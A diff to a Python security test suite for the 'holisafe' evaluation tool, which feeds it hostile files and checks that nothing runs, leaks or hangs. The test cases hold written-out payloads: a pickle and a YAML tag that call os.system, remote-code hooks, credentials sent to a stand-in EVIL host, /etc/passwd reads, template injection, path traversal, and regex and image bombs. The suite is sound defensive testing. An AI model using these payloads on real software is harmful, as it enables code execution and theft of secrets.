@@ -9,16 +9,20 @@ traceback, and memory and time are bounded: `warden.py` watches. A new row is on
 
 from __future__ import annotations
 
+import csv
 import json
 import os
+import pickle
 import shutil
+import struct
 import subprocess
 import sys
 import zipfile
-from collections.abc import Callable
+import zlib
+from collections.abc import Callable, Iterator
 from itertools import pairwise
 from pathlib import Path
-from typing import Any
+from typing import Any, NamedTuple
 
 import numpy as np
 import pytest
@@ -27,9 +31,11 @@ from safetensors.numpy import save_file
 from holisafe.benchmarks import open_benchmark
 from holisafe.evaluation import evaluate
 from holisafe.guard.folders import shipped_folder
+from holisafe.images import PIXEL_LIMIT
 from holisafe.judges import open_judge
 from holisafe.records import GenerationSettings
 from holisafe.targets import open_target
+from tables.test_bombs import BOMBS
 from warden import SECRET_FILE
 
 TESTS = Path(__file__).parent
@@ -41,9 +47,20 @@ DRIVE = "\x1b]0;owned\x07\x1b[2J[red]boo[/] <script>alert(1)</script>\r\u202eevi
 HALF = "\ud83d"
 """Half a character, which no file in UTF-8 can hold, but JSON's escapes can."""
 
+MOST_MEMORY, MOST_SECONDS = 4096, 60
+"""Mebibytes in memory, and seconds of the processor, for anything at all."""
+
 DEEP = "[" * 100_000
 HUGE = "9" * 100_000
 PLAIN = ["judge", "{}", "--judge", "string-match:holisafe"]
+
+
+class Evil:
+    """A pickle of it runs a program."""
+
+    def __reduce__(self) -> Any:
+        return os.system, ("true",)
+
 
 Row = Callable[[Path], list[str]]
 ROWS: dict[tuple[str, str], Row] = {}
@@ -144,6 +161,12 @@ def _(folder: Path) -> list[str]:
     return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]
 
 
+@row("run", "bomb: repeats")
+def _(folder: Path) -> list[str]:
+    edit(folder / "run" / "manifest.json", lambda manifest: manifest.update(repeats=2**31 - 1, limit=2**31 - 1))
+    return ["export", str(folder / "run"), "--out", str(folder / "out.eval"), "--without-images"]
+
+
 @row("run", "bomb: schema")
 def _(folder: Path) -> list[str]:
     with (folder / "run" / "verdicts.jsonl").open("a") as file:
@@ -201,6 +224,8 @@ for VERB, ARGUMENTS in {
     "agreement": ["agreement", "RUN"],
     "judge": ["judge", "RUN", "--judge", "string-match:holisafe"],
     "export": ["export", "RUN", "--out", "RUN.csv"],
+    "export, as a log": ["export", "RUN", "--out", "RUN.eval", "--without-images"],
+    "export, to train on": ["export", "RUN", "--training", "RUN.jsonl"],
 }.items():
 
     @row("run", f"drive: {VERB}")
@@ -339,29 +364,111 @@ def _(folder: Path) -> list[str]:
     )
 
 
-@row("sweep", "code")
-def _(folder: Path) -> list[str]:
-    fit = {"data": "pictosafe", "options": {"reader": f"hf/{hostile_model(folder)},trust_remote_code=true"}}
+def sweep(folder: Path, **changed: Any) -> list[str]:
     config = {
         "target": "hf/pictovlm",
         "out": str(folder / "out"),
         "safety": {"benchmark": "pictosafe", "choose": "validation", "report": "test"},
-        "methods": [{"method": "guarded,apply=reminder", "fit": fit}],
+        "methods": [{"method": "reminder"}],
+        **changed,
     }
-    (folder / "sweep.yaml").write_text(json.dumps(config))
+    (folder / "sweep.yaml").write_text(json.dumps(config), errors="surrogatepass")
     return ["calibrate", "sweep", str(folder / "sweep.yaml"), "--limit", "2"]
+
+
+@row("sweep", "code")
+def _(folder: Path) -> list[str]:
+    fit = {"data": "pictosafe", "options": {"reader": f"hf/{hostile_model(folder)},trust_remote_code=true"}}
+    return sweep(folder, methods=[{"method": "guarded,apply=reminder", "fit": fit}])
+
+
+@row("sweep", "send")
+def _(folder: Path) -> list[str]:
+    return sweep(folder, compare={"other": f"openai/m,base_url={EVIL},key=PLANTED_SECRET"})
+
+
+@row("sweep", "escape")
+def _(folder: Path) -> list[str]:
+    lmms = {"task": "t", "metric": "m", "choose": {"untouched": f"../{SECRET_FILE}"}, "report": {}}
+    return sweep(folder, utility={"lmms_eval": lmms}, target=f"replay/{folder / 'run' / 'responses.jsonl'}")
+
+
+@row("sweep", "escape: devices")
+def _(folder: Path) -> list[str]:
+    return sweep(folder, target="replay//dev/zero", safety={"benchmark": "table", "root": "/dev/zero", "choose": "x"})
+
+
+@row("sweep", "bomb")
+def _(folder: Path) -> list[str]:
+    grid = {f"option{n}": list(range(50)) for n in range(10)}
+    return sweep(folder, methods=[{"method": "reminder", "grid": grid}])
+
+
+@row("sweep", "drive")
+def _(folder: Path) -> list[str]:
+    return sweep(folder, methods=[{"method": "reminder", "name": DRIVE}], compare={DRIVE: DRIVE}, judge=DRIVE)
+
+
+def recipe(folder: Path, text: str, *more: str) -> list[str]:
+    (folder / "recipe.yaml").write_text(text, errors="surrogatepass")
+    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run", *more]
 
 
 @row("recipe", "code")
 def _(folder: Path) -> list[str]:
-    (folder / "recipe.yaml").write_text("seed: !!python/name:os.system\n")
-    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run"]
+    return recipe(folder, "seed: !!python/name:os.system\n")
+
+
+@row("recipe", "code: base")
+def _(folder: Path) -> list[str]:
+    command = recipe(folder, json.dumps({"base": str(hostile_model(folder))}), "--data", "pictosafe")
+    return [word for word in command if word not in ("--base", "pictovlm")]
+
+
+@row("recipe", "send")
+def _(folder: Path) -> list[str]:
+    return recipe(folder, "compute: {report_to: [wandb, trackio]}\n", "--data", "pictosafe")
+
+
+@row("recipe", "escape")
+def _(folder: Path) -> list[str]:
+    record = {"id": "1", "images": [f"../{SECRET_FILE}"], "query": "q", "response": "r"}
+    (folder / "data.jsonl").write_text(json.dumps(record) + "\n")
+    return recipe(folder, json.dumps({"data": {"mix": [{"source": "jsonl", "path": str(folder / "data.jsonl")}]}}))
+
+
+@row("recipe", "escape: device")
+def _(folder: Path) -> list[str]:
+    return recipe(folder, "data: {mix: [{source: llava, path: /dev/zero}], check_against: ['table:/dev/zero']}\n")
 
 
 @row("recipe", "bomb")
 def _(folder: Path) -> list[str]:
-    (folder / "recipe.yaml").write_text("seed: " + HUGE)
-    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run"]
+    return recipe(folder, "seed: " + HUGE)
+
+
+@row("recipe", "bomb: pattern")
+def _(folder: Path) -> list[str]:
+    targets = {"targets": "((((\\w*)*)*)*)*!"}
+    return recipe(folder, json.dumps({"trainable": {"method": "lora", "lora": targets}}), "--data", "pictosafe")
+
+
+@row("recipe", "bomb: sizes")
+def _(folder: Path) -> list[str]:
+    guard = {"hidden_layers": 10**9, "hidden_scale": 1e12, "labels": [f"l{n}" for n in range(9999)]}
+    return recipe(folder, json.dumps({"guard": guard, "optimiser": {"batch_size": 10**12}}), "--data", "pictosafe")
+
+
+@row("recipe", "bomb: mix")
+def _(folder: Path) -> list[str]:
+    mix = [{"source": "pictosafe", "size": 10**12}, {"source": "pictosafe", "name": "b", "weight": 100}]
+    return recipe(folder, json.dumps({"data": {"mix": mix}, "optimiser": {"epochs": 1e300}}))
+
+
+@row("recipe", "drive")
+def _(folder: Path) -> list[str]:
+    guard = {"labels": [DRIVE, "b"], "pool": DRIVE}
+    return recipe(folder, json.dumps({"base": DRIVE, "guard": guard, DRIVE: DRIVE}), "--data", DRIVE)
 
 
 # A model's folder.
@@ -375,6 +482,30 @@ def asked(model: Path | str) -> list[str]:
 @row("model", "code")
 def _(folder: Path) -> list[str]:
     return asked(hostile_model(folder))
+
+
+for FILE in (
+    "tokenizer_config",
+    "preprocessor_config",
+    "processor_config",
+    "generation_config",
+    "guard",
+    "trainer_state",
+):
+
+    @row("model", f"code: {FILE}")
+    def _(folder: Path, name: str = FILE) -> list[str]:
+        model = hostile_model(folder)
+        shutil.copyfile(shipped_folder() / "config.json", model / "config.json")
+        own = {"AutoTokenizer": ["evil.T", "evil.T"], "AutoProcessor": "evil.P", "AutoImageProcessor": "evil.I"}
+        named = {"tokenizer_class": "T", "processor_class": "P", "image_processor_type": "I", "custom_generate": "evil"}
+        path = model / f"{name}.json"
+        if not path.is_file():
+            path.write_text("{}")
+        edit(path, lambda config: config.update(auto_map=own, trust_remote_code=True, **named))
+        (model / "custom_generate").mkdir()
+        shutil.copyfile(model / "evil.py", model / "custom_generate" / "generate.py")
+        return asked(model)
 
 
 @row("model", "code: pickle")
@@ -404,6 +535,24 @@ def _(folder: Path) -> list[str]:
     return asked(model)
 
 
+@row("model", "send: tower")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    edit(model / "config.json", lambda c: c.update(mm_vision_tower="evil/tower", model_type="llava_llama"))
+    return asked(model)
+
+
+@row("model", "send: in every name")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    for name in ("config", "tokenizer_config", "processor_config", "generation_config"):
+        named = ("_name_or_path", "name_or_path", "tokenizer_file", "vocab_file", "chat_template", "tokenizer_name")
+        edit(model / f"{name}.json", lambda config, named=named: config.update(dict.fromkeys(named, "evil/base")))
+    return asked(model)
+
+
 @row("model", "escape")
 def _(folder: Path) -> list[str]:
     model = folder / "model"
@@ -411,6 +560,46 @@ def _(folder: Path) -> list[str]:
     (model / "model.safetensors").unlink()
     index = {"weight_map": {"x": "../../secret.txt"}}
     (model / "model.safetensors.index.json").write_text(json.dumps(index))
+    return asked(model)
+
+
+@row("model", "escape: tokenizer")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    (model / "tokenizer.json").unlink()
+    (model / "tokenizer.json").symlink_to("/dev/zero")
+    return asked(model)
+
+
+for NAME in ("config", "processor_config", "tokenizer_config", "generation_config", "guard_thresholds"):
+
+    @row("model", f"bomb: {NAME} without end")
+    def _(folder: Path, name: str = NAME) -> list[str]:
+        model = folder / "model"
+        shutil.copytree(shipped_folder(), model)
+        with (model / f"{name}.json").open("ab") as file:
+            file.truncate(2**36)
+        return asked(model)
+
+
+@row("model", "bomb: adapter's pattern")
+def _(folder: Path) -> list[str]:
+    model = folder / "adapter"
+    model.mkdir()
+    config = {
+        "peft_type": "LORA", "base_model_name_or_path": "pictovlm", "r": 2, "target_modules": "((((.*)*)*)*)*!",
+    }  # fmt: skip
+    (model / "adapter_config.json").write_text(json.dumps(config))
+    save_file({"x": np.zeros(1)}, model / "adapter_model.safetensors")
+    return asked(model)
+
+
+@row("model", "bomb: sizes")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    edit(model / "config.json", lambda config: config["text_config"].update(num_hidden_layers=10**9, vocab_size=10**12))
     return asked(model)
 
 
@@ -457,6 +646,72 @@ def log(folder: Path, **members: str) -> list[str]:
     return ["import", "inspect", str(folder / "log.eval"), "--out", str(folder / "out.jsonl")]
 
 
+def good_log(folder: Path, change: Callable[[str, Any], Any]) -> list[str]:
+    """The run as a log, each of whose JSON files went through a change."""
+    pytest.importorskip("inspect_ai")
+    from holisafe.interchange.inspect_logs import write_eval_log
+
+    write_eval_log(folder / "run", folder / "good.eval", images=False)
+    with zipfile.ZipFile(folder / "good.eval") as good:
+        members = {name: json.loads(good.read(name)) for name in good.namelist() if name.endswith(".json")}
+    changed = {name: json.dumps(change(name, value)) for name, value in members.items()}
+    return log(folder, **{name.removesuffix(".json").replace("/", "__"): text for name, text in changed.items()})
+
+
+@row("log", "code")
+def _(folder: Path) -> list[str]:
+    (folder / "evil.py").write_text("raise SystemExit('code of the stranger ran')\n")
+
+    def change(name: str, value: Any) -> Any:
+        if isinstance(value, dict) and "eval" in value:
+            value["eval"] |= {"task_file": str(folder / "evil.py"), "solver": f"{folder}/evil.py@s"}
+        return value
+
+    return good_log(folder, change)
+
+
+@row("log", "send")
+def _(folder: Path) -> list[str]:
+    def change(name: str, value: Any) -> Any:
+        if isinstance(value, dict) and "eval" in value:
+            value["eval"] |= {"model": "openai/m", "model_base_url": EVIL, "model_args": {"api_key": "PLANTED_SECRET"}}
+        if isinstance(value, dict) and "messages" in value:
+            value["input"] = [{"role": "user", "content": [{"type": "image", "image": f"{EVIL}/a.png"}]}]
+            value["attachments"] = {"a": f"{EVIL}/a.png"}
+        return value
+
+    return good_log(folder, change)
+
+
+@row("log", "drive: names")
+def _(folder: Path) -> list[str]:
+    def change(name: str, value: Any) -> Any:
+        for one in value if isinstance(value, list) else [value]:
+            if "output" in one:
+                one |= {"id": DRIVE, "target": DRIVE, "metadata": {DRIVE: DRIVE}}
+                one["output"]["completion"] = DRIVE
+            if "eval" in one:
+                one["eval"] |= {"model": DRIVE, "task": DRIVE}
+            if "epoch" in one:
+                one["id"] = DRIVE
+        return value
+
+    return good_log(folder, change)
+
+
+@row("log", "bomb: zeros")
+def _(folder: Path) -> list[str]:
+    return log(folder, header="{}", samples__1_epoch_1=" " * 200_000_000)
+
+
+for SHAPE in (DEEP, "{" * 9, '{"resps": [["' + "x" * 9_000_000, json.dumps({"doc_id": DRIVE, "resps": [[DRIVE]]})):
+
+    @row("log", f"bomb: lmms-eval, {len(SHAPE)}")
+    def _(folder: Path, shape: str = SHAPE) -> list[str]:
+        (folder / "log.jsonl").write_text(shape + "\n", errors="surrogatepass")
+        return ["import", "lmms-eval", str(folder / "log.jsonl"), "--out", str(folder / "out.jsonl")]
+
+
 @row("log", "bomb")
 def _(folder: Path) -> list[str]:
     return log(folder, header=DEEP)
@@ -501,6 +756,91 @@ def _(folder: Path) -> list[str]:
     return ["data", "check", "table", "--root", str(folder / "t.csv")]
 
 
+@row("table", "code: pickled type")
+def _(folder: Path) -> list[str]:
+    """Arrow's extension types were once unpickled out of a file's own schema."""
+    import pyarrow as pa
+    from pyarrow import parquet
+
+    named = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickle.dumps(Evil())}
+    schema = pa.schema([pa.field("query", pa.string(), metadata=named), pa.field("expected", pa.string())])
+    pandas = {b"pandas": json.dumps({"index_columns": ["x"], "columns": [{"name": DRIVE}]}).encode()}
+    table = pa.table({"query": ["q"], "expected": ["answer"]}, schema=schema.with_metadata(pandas))
+    parquet.write_table(table, folder / "t.parquet")
+    return ["data", "check", "table", "--root", str(folder / "t.parquet")]
+
+
+@row("table", "send")
+def _(folder: Path) -> list[str]:
+    (folder / "t.csv").write_text(f"query,expected,image\nq,answer,{EVIL}/a.png\nq,answer,file:///etc/passwd\n")
+    return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
+for NAME in ("dictionary.parquet", "row.xlsx", "zip.xlsx", "laughs.xlsx", "columns.csv"):
+
+    @row("table", f"bomb: {NAME}")
+    def _(folder: Path, name: str = NAME) -> list[str]:
+        BOMBS[name][0](folder / name)
+        return ["data", "check", "table", "--root", str(folder / name)]
+
+
+for VERB in (["score", "TABLE"], ["judge", "TABLE", "--judge", "string-match", "--out", "OUT"]):
+
+    @row("table", f"drive: {VERB[0]}")
+    def _(folder: Path, verb: list[str] = VERB) -> list[str]:
+        header = ["sample_id", "id", "query", "expected", "response", "combination", "adheres", "judge", "category"]
+        cells = [DRIVE, DRIVE, DRIVE, "answer", DRIVE, "SSS", "true", DRIVE, DRIVE]
+        with (folder / "t.csv").open("w", newline="", errors="replace") as file:
+            csv.writer(file).writerows([header, cells])
+        return [word.replace("TABLE", str(folder / "t.csv")).replace("OUT", str(folder / "o.csv")) for word in verb]
+
+
+# Pictures.
+
+
+def png(path: Path, width: int, height: int) -> None:
+    """Of one colour, at 1 bit a pixel: no larger on the disk than its deflated rows."""
+    rows = zlib.compressobj(9)
+    data = b"".join(rows.compress(b"\0" * (width // 8 + 1)) for _ in range(height)) + rows.flush()
+    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b"")]
+    body = b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks)
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + body)
+
+
+def picture_bombs(folder: Path, side: int, number: int) -> list[str]:
+    (folder / "p").mkdir()
+    for at in range(number):
+        png(folder / "p" / f"{at}.png", side, side)
+    rows = "".join(f"q,answer,p/{at}.png\n" for at in range(number))
+    (folder / "t.csv").write_text("query,expected,image\n" + rows)
+    return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
+@row("picture", "bomb: just under the limit")
+def _(folder: Path) -> list[str]:
+    return picture_bombs(folder, int(PIXEL_LIMIT**0.5) - 1, 5)
+
+
+@row("picture", "bomb: over the limit")
+def _(folder: Path) -> list[str]:
+    return picture_bombs(folder, 60_000, 2)
+
+
+for NAME, CONTENT in {
+    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><image href='https://203.0.113.7/a'/></svg>",
+    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
+    "gif": b"GIF89a\xff\xff\xff\xff\xf7\0\0",
+    "webp": b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\x02\0\0\0\xff\xff\xff\xff\xff\xff",
+    "tiff": b"II*\0\x08\0\0\0\xff\xff" + b"\0" * 99,
+}.items():
+
+    @row("picture", f"code: {NAME}")
+    def _(folder: Path, name: str = NAME, content: bytes = CONTENT) -> list[str]:
+        (folder / f"a.{name}").write_bytes(content)
+        (folder / "t.csv").write_text(f"query,expected,image\nq,answer,a.{name}\n")
+        return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
 def rubric(folder: Path, front: str) -> list[str]:
     (folder / "r.md").write_text(f"---\n{front}\n---\n{{{{ query }}}} {{{{ response }}}}\n", errors="replace")
     answers = folder / "run" / "responses.jsonl"
@@ -532,6 +872,23 @@ def _(folder: Path) -> list[str]:
 @row("rubric", "escape: nobody's home")
 def _(folder: Path) -> list[str]:
     return ["judge", str(folder / "run"), "--judge", f"llm/~nobody.here/r.md/replay/{folder / 'run/responses.jsonl'}"]
+
+
+@row("rubric", "send")
+def _(folder: Path) -> list[str]:
+    labels = "{a: refused, b: answered}"
+    more = f"model: openai/m\nbase_url: {EVIL}\nkey: PLANTED_SECRET"
+    return rubric(folder, f"name: x\nversion: 1\nsource: {EVIL}\nlabels: {labels}\n{more}")
+
+
+@row("rubric", "code: template")
+def _(folder: Path) -> list[str]:
+    command = rubric(folder, "name: x\nversion: 1\nsource: x\nlabels: {a: refused, b: answered}")
+    with (folder / "r.md").open("a") as file:
+        file.write(
+            "{{ ''.__class__.__mro__ }} {% for i in range(9**9) %}x{% endfor %} {0.__class__} ${PLANTED_SECRET}\n"
+        )
+    return command
 
 
 @row("rubric", "bomb: without end")
@@ -584,14 +941,35 @@ def _(folder: Path) -> list[str]:
     return bench(folder, lambda record: record.update(dict.fromkeys([*record, DRIVE], DRIVE)))
 
 
+@row("benchmark", "code")
+def _(folder: Path) -> list[str]:
+    """What the hub's library of data sets would have run."""
+    command = bench(folder, lambda record: None)
+    for name in ("bench.py", "holisafe_bench.py", "conftest.py", "sitecustomize.py", "__init__.py"):
+        (folder / "bench" / name).write_text("raise SystemExit('code of the stranger ran')\n")
+    return command
+
+
+@row("benchmark", "escape: pipe")
+def _(folder: Path) -> list[str]:
+    command = bench(folder, lambda record: record.update(image="a.png"))
+    os.mkfifo(folder / "bench" / "images" / "a.png")
+    return command
+
+
+@row("benchmark", "escape: pipe for the table")
+def _(folder: Path) -> list[str]:
+    command = bench(folder, lambda record: None)
+    (folder / "bench" / "holisafe_bench.json").unlink()
+    os.mkfifo(folder / "bench" / "holisafe_bench.json")
+    return command
+
+
 @row("benchmark", "bomb")
 def _(folder: Path) -> list[str]:
     command = bench(folder, lambda record: None)
     (folder / "bench" / "holisafe_bench.json").write_text(DEEP)
     return command
-
-
-NEEDS_A_MODEL = {"model", "recipe", "sweep"}
 
 
 @pytest.fixture(scope="module")
@@ -605,30 +983,91 @@ def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return folder / "run"
 
 
-@pytest.mark.parametrize("name", ROWS, ids=" ".join)
-def test_a_strangers_file_does_nothing_but_fail(name: tuple[str, str], good: Path, tmp_path: Path) -> None:
-    folder, report = tmp_path / "theirs", tmp_path / "report.txt"
-    (tmp_path / SECRET_FILE).write_text(SECRET)
-    shutil.copytree(good, folder / "run")
-    command = [sys.executable, str(TESTS / "warden.py"), str(report), str(folder), "12", "--", *ROWS[name](folder)]
+@pytest.fixture(scope="module")
+def warden(tmp_path_factory: pytest.TempPathFactory) -> Iterator[subprocess.Popen[str]]:
+    """The process that carries out command lines, its secrets and its empty hub beside it."""
     environment = {
         **os.environ, "PLANTED_SECRET": SECRET, "OPENAI_API_KEY": SECRET, "HF_TOKEN": SECRET, "OMP_NUM_THREADS": "1",
-        "HF_HOME": str(tmp_path / "hub"), "PYTHONHASHSEED": "0",
+        "HF_HOME": str(tmp_path_factory.mktemp("hub")), "PYTHONHASHSEED": "0",
     }  # fmt: skip
-    done = subprocess.run(
-        command, capture_output=True, env=environment, stdin=subprocess.DEVNULL, timeout=400, check=False
-    )
-    out, err = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
-    said = f"{command[7:]}\n{out}\n{err}"
-    assert not report.exists() or report.read_text() == "", report.read_text() + said
-    assert done.returncode in (0, 2, 3), said
+    pipes: dict[str, Any] = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
+    with subprocess.Popen([sys.executable, str(TESTS / "warden.py")], env=environment, **pipes) as process:
+        yield process
+        process.stdin.close()
+
+
+class Done(NamedTuple):
+    """What a command did: `forbidden` is the warden's report."""
+
+    arguments: list[str]
+    code: int
+    mebibytes: int
+    seconds: int
+    forbidden: str
+    out: str
+    err: str
+
+
+def carried_out(warden: subprocess.Popen[str], arguments: list[str], tmp_path: Path) -> Done:
+    files = {name: str(tmp_path / f"{name}.txt") for name in ("report", "out", "err")}
+    order = {**files, "folder": str(tmp_path / "theirs"), "gib": 12, "arguments": arguments}
+    print(json.dumps(order), file=warden.stdin, flush=True)
+    used = json.loads(warden.stdout.readline())
+    return Done(arguments, *used, *(Path(file).read_bytes().decode("utf-8") for file in files.values()))
+
+
+def test_the_warden_sees(warden: subprocess.Popen[str], tmp_path: Path) -> None:
+    """What a user types is done, and is what no file may do."""
+    (tmp_path / "theirs").mkdir()
+    (tmp_path / SECRET_FILE).write_text("query,expected\nq,answer\n")
+    code, *rest = asked(hostile_model(tmp_path / "theirs"))
+    for typed, seen in (
+        ([code, *(f"{word},trust_remote_code=true" if word.startswith("hf/") else word for word in rest)], "code of"),
+        (
+            [
+                "run",
+                "pictosafe",
+                "--target",
+                f"openai/m,base_url={EVIL}",
+                "--judge",
+                "string-match",
+                "--out",
+                str(tmp_path / "o"),
+            ],
+            "socket",
+        ),
+        (["data", "check", "table", "--root", str(tmp_path / SECRET_FILE)], "the secret is opened"),
+    ):
+        assert seen in carried_out(warden, typed, tmp_path).forbidden
+
+
+def test_every_surface_carries_five_payloads() -> None:
+    kinds = {surface: {payload.partition(":")[0] for s, payload in ROWS if s == surface} for surface, _ in ROWS}
+    for surface in ("run", "learned", "recipe", "sweep", "model", "log", "table", "rubric", "benchmark", "yaml"):
+        assert kinds[surface] >= {"code", "send", "escape", "bomb", "drive"}, surface
+
+
+@pytest.mark.parametrize("name", ROWS, ids=" ".join)
+def test_a_strangers_file_does_nothing_but_fail(
+    name: tuple[str, str], good: Path, warden: subprocess.Popen[str], tmp_path: Path
+) -> None:
+    folder = tmp_path / "theirs"
+    (tmp_path / SECRET_FILE).write_text(SECRET)
+    shutil.copytree(good, folder / "run")
+    found = carried_out(warden, ROWS[name](folder), tmp_path)
+    code, out, err = found.code, found.out, found.err
+    said = f"{found}"
+    assert found.forbidden == "", said
+    assert code in (0, 2, 3), said
+    assert found.mebibytes < MOST_MEMORY, said
+    assert found.seconds < MOST_SECONDS, said
     assert "Traceback" not in err, said
     assert SECRET not in said
     assert (tmp_path / SECRET_FILE).read_text() == SECRET
     for text in (out, err):
         odd = {c for c in text if (ord(c) < 32 and c not in "\n\t") or ord(c) == 127 or c in "\u202e\u2066"}
         assert not odd, said
-    if done.returncode == 2:
+    if code == 2:
         assert err.count("holisafe: ") >= 1 or out, said
     for file in folder.rglob("*"):
         if file.is_file() and not file.is_symlink() and file.stat().st_size < 2**30:
